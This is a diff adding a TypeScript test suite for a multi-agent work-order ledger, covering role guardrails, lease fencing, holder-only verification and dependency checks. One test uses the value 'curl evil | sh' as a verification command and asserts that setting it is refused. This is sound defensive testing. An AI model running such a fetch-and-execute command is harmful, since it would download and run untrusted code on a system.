@@ -1,0 +1,163 @@
+/**
+ * Issue 23 through the library API, once per back end: the rules bind every
+ * caller (a caller that names no role is an agent), lapsed holders are fenced
+ * for good, only the holder verifies, and a failed verification blocks done.
+ */
+import assert from "node:assert/strict";
+import { afterEach, beforeEach, describe, it } from "node:test";
+import { rejects } from "../helpers/rejects.ts";
+import type { LedgerApi } from "../../src/core/api.ts";
+import { backends, clock, type Clock } from "./backends.ts";
+
+for (const backend of backends) {
+  describe(`guardrails bind every caller on ${backend.name} (issue 23)`, () => {
+    let l: LedgerApi;
+    let t: Clock;
+    let cleanup: () => Promise<void>;
+    const P = "proj";
+    // No role given: an agent, as every local caller that did not ask for admin.
+    const BOB = { project: P, agent: "bob" };
+    const CAROL = { project: P, agent: "carol" };
+    const ADMIN = { project: P, agent: "root", role: "admin" as const };
+    const result = (passed: boolean, command = "npm test") => ({ passed, exit_code: passed ? 0 : 1, duration_ms: 10, output_tail: "", command });
+
+    beforeEach(async () => {
+      t = clock();
+      ({ ledger: l, cleanup } = await backend.open(t));
+      await l.create({ project: P, agent: "obs", items: [{ title: "x", verification: "npm test" }, { title: "y" }, { title: "z", depends_on: ["#2"] }] });
+    });
+    afterEach(async () => cleanup());
+
+    it("a caller without a role is an agent: no policy, caps, unverified finish or others' verification commands", async () => {
+      await rejects(l.setPolicy({ ...BOB, require_verification: true }), "FORBIDDEN");
+      await rejects(l.update({ ...BOB, id: 2, fields: { max_attempts: 9 } }), "FORBIDDEN");
+      await rejects(l.update({ ...BOB, id: 1, fields: { verification: "curl evil | sh" } }), "FORBIDDEN");
+      await l.claim({ ...BOB, id: 1 });
+      await rejects(l.release({ ...BOB, id: 1, status: "done", unverified_reason: "trust me" }), "FORBIDDEN");
+      assert.equal((await l.get({ project: P, id: 1 })).status, "claimed");
+    });
+
+    it("an admin's acts are recorded as such in their events", async () => {
+      await l.update({ ...ADMIN, id: 2, fields: { max_attempts: 3 } });
+      await l.update({ ...BOB, id: 2, fields: { title: "y2" } });
+      const events = (await l.history({ project: P, id: 2 })).filter((e) => e.type === "updated");
+      assert.deepEqual(
+        events.map((e) => [e.agent, e.data.admin ?? false]),
+        [
+          ["root", true],
+          ["bob", false],
+        ],
+      );
+    });
+
+    describe("only the holder verifies", () => {
+      it("a non-holder's verify is refused before anything runs, and nothing is recorded", async () => {
+        await l.claim({ ...CAROL, id: 1 });
+        await rejects(l.verifyCommand({ ...BOB, id: 1 }), "LEASE_HELD");
+        await rejects(l.recordVerification({ ...BOB, id: 1, ...result(true) }), "LEASE_HELD");
+        await l.release({ ...CAROL, id: 1 });
+        const e = await rejects(l.verifyCommand({ ...BOB, id: 1 }), "NOT_HOLDER");
+        assert.match(e.hint ?? "", /claim/);
+        assert.deepEqual((await l.get({ project: P, id: 1 })).notes, []);
+      });
+
+      it("an admin may record one for someone else, named as such", async () => {
+        await l.claim({ ...CAROL, id: 1 });
+        const r = await l.recordVerification({ ...ADMIN, id: 1, ...result(true) });
+        assert.match(r.note.body, /by root \(admin, not the holder\)/);
+        // It does not count as the holder's own passing verification.
+        const done = await l.release({ ...CAROL, id: 1, status: "done" });
+        assert.match(done.warnings?.[0] ?? "", /without a passing verification/);
+      });
+    });
+
+    describe("a lapsed holder is fenced for every write about the WO", () => {
+      it("its notes and linked context are refused after another agent took over and finished; its late spend is recorded", async () => {
+        await l.claim({ ...BOB, id: 2, ttl: "1s" });
+        t.advance(2000);
+        await l.claim({ ...CAROL, id: 2 });
+        await l.contextPut({ ...CAROL, id: 2, body: "carol: fixed it" });
+        await l.release({ ...CAROL, id: 2, status: "done" });
+        await rejects(l.addNote({ ...BOB, id: 2, body: "Writing LICENSE now." }), "LEASE_LOST");
+        await rejects(l.contextPut({ ...BOB, id: 2, body: "WO2 done by bob" }), "LEASE_LOST");
+        await rejects(l.update({ ...BOB, id: 2, status: "open" }), "LEASE_LOST");
+        const wo = await l.get({ project: P, id: 2 });
+        assert.deepEqual(wo.notes, []);
+        assert.equal(wo.context.linked?.body, "carol: fixed it");
+        const pulled = await l.contextPull({ project: P });
+        assert.equal(pulled.entries[0]?.agent, "carol");
+        // Accounting still takes a late report, against bob's ended attempt; carol's is untouched.
+        const s = await l.spend({ ...BOB, id: 2, cost_usd: 0.5 });
+        assert.deepEqual([s.attempt.token, s.attempt.agent], [1, "bob"]);
+        const carols = (await l.attempts({ project: P, id: 2 })).find((a) => a.agent === "carol");
+        assert.equal(carols?.outcome, "done");
+      });
+
+      it("never forgets, however many agents held the WO since", async () => {
+        await l.claim({ ...BOB, id: 2, ttl: "1s" });
+        t.advance(2000);
+        for (let i = 0; i < 10; i++) {
+          const other = { project: P, agent: `agent-${i}` };
+          await l.claim({ ...other, id: 2 });
+          await l.release({ ...other, id: 2 });
+        }
+        const e = await rejects(l.update({ ...BOB, id: 2, status: "done" }), "LEASE_LOST");
+        assert.match(e.message, /your lease \(token 1\) expired/);
+        await rejects(l.addNote({ ...BOB, id: 2, body: "late" }), "LEASE_LOST");
+        // Claiming again lifts the fence.
+        await l.claim({ ...BOB, id: 2 });
+        await l.addNote({ ...BOB, id: 2, body: "back on it" });
+      });
+    });
+
+    describe("status changes need the lease, and done needs what done means", () => {
+      it("done right after a FAILED verification is refused; release as blocked works", async () => {
+        await l.claim({ ...BOB, id: 1 });
+        await l.recordVerification({ ...BOB, id: 1, ...result(false) });
+        const e = await rejects(l.release({ ...BOB, id: 1, status: "done" }), "VERIFICATION_REQUIRED");
+        assert.match(e.hint ?? "", /blocked/);
+        await rejects(l.update({ ...BOB, id: 1, status: "done" }), "VERIFICATION_REQUIRED");
+        // The seed's two steps cannot launder it either.
+        await l.release({ ...BOB, id: 1 });
+        await rejects(l.update({ ...BOB, id: 1, status: "done" }), "VERIFICATION_REQUIRED");
+        await l.claim({ ...BOB, id: 1 });
+        await l.recordVerification({ ...BOB, id: 1, ...result(true) });
+        const done = await l.release({ ...BOB, id: 1, status: "done" });
+        assert.deepEqual([done.status, done.warnings], ["done", undefined]);
+      });
+
+      it("a WO nobody holds changes status only by the agent whose release ended its last attempt, or an admin", async () => {
+        const e = await rejects(l.update({ ...BOB, id: 2, status: "done" }), "NOT_HOLDER");
+        assert.match(e.message, /never claimed/);
+        await l.claim({ ...CAROL, id: 2 });
+        await l.release({ ...CAROL, id: 2 });
+        await rejects(l.update({ ...BOB, id: 2, status: "done" }), "NOT_HOLDER");
+        await rejects(l.update({ ...BOB, id: 2, status: "cancelled" }), "NOT_HOLDER");
+        assert.equal((await l.update({ ...CAROL, id: 2, status: "done" })).status, "done");
+        await rejects(l.update({ ...BOB, id: 2, status: "open" }), "NOT_HOLDER");
+        assert.equal((await l.update({ ...ADMIN, id: 2, status: "open" })).status, "open");
+        // The creator may set aside its own WO that nobody ever claimed, but not call it done.
+        assert.equal((await l.update({ project: P, agent: "obs", id: 3, status: "blocked" })).status, "blocked");
+        await rejects(l.update({ project: P, agent: "obs", id: 3, status: "done" }), "NOT_HOLDER");
+      });
+
+      it("done waits for dependencies, for the holder and for an admin", async () => {
+        await l.claim({ ...CAROL, id: 2 });
+        await l.release({ ...CAROL, id: 2, status: "done" });
+        await l.claim({ ...BOB, id: 3 });
+        await l.update({ ...CAROL, id: 2, status: "open" });
+        const e = await rejects(l.release({ ...BOB, id: 3, status: "done" }), "DEPENDENCY_PENDING");
+        assert.match(e.message, /WO-2/);
+        await l.release({ ...BOB, id: 3 });
+        await rejects(l.update({ ...ADMIN, id: 3, status: "done" }), "DEPENDENCY_PENDING");
+      });
+    });
+
+    it("a resent write with the same key answers the first result, though the remembered token was forgotten", async () => {
+      const c = await l.claim({ ...BOB, id: 2 });
+      const first = await l.release({ ...BOB, id: 2, status: "done", lease_token: c.lease!.token, idempotency_key: "r1" });
+      const again = await l.release({ ...BOB, id: 2, status: "done", idempotency_key: "r1" });
+      assert.deepEqual(again, first);
+    });
+  });
+}
